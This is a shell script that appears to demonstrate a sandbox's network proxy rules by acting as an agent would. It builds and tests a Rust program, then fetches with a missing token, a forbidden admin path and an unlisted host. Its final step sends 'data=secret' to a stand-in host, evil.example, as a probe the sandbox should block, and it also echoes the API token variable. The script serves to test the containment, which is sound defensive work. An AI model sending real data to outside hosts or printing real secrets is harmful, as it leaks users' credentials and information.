# What an agent might do. It runs inside the sandbox; a tar archive of the program comes on its standard input.
say() { printf '\n-- %s\n' "$*"; }

# An ordinary client, whichever this machine has. None of them knows of a proxy.
fetch() { # URL [TOKEN]
    if command -v curl >/dev/null; then
        curl --silent --show-error ${2:+--header "Authorization: Bearer $2"} "$1"
    elif command -v python3 >/dev/null; then
        python3 -c 'import sys, urllib.error, urllib.request as u
request = u.Request(sys.argv[1], headers={"Authorization": "Bearer " + t} if (t := "".join(sys.argv[2:])) else {})
try: print(u.urlopen(request).read().decode())
except urllib.error.HTTPError as error: print(error.read().decode())
except urllib.error.URLError as error: sys.exit(str(error))' "$@"
    elif command -v wget >/dev/null; then
        wget --quiet --content-on-error --output-document=- ${2:+--header="Authorization: Bearer $2"} "$1"
    else
        echo "this machine has neither curl nor python3 nor wget" >&2
        return 1
    fi
}

say "1. unpack a program, build it, run its tests"
tar -x
cd program || exit
cargo test --offline --quiet || exit
cargo run --offline --quiet -- src/main.rs > target/demo-report.txt || exit
cat target/demo-report.txt

say "2. fetch with a token that this sandbox does not have"
echo "API_TOKEN here is $API_TOKEN"
fetch "https://api.example.com:$PORT/v1/models" "$API_TOKEN"
echo

say "3. a path that no rule allows"
fetch "https://api.example.com:$PORT/admin"
echo

say "4. a host that no rule names"
fetch "https://evil.example/collect?data=secret"
echo "the client ended with $?"
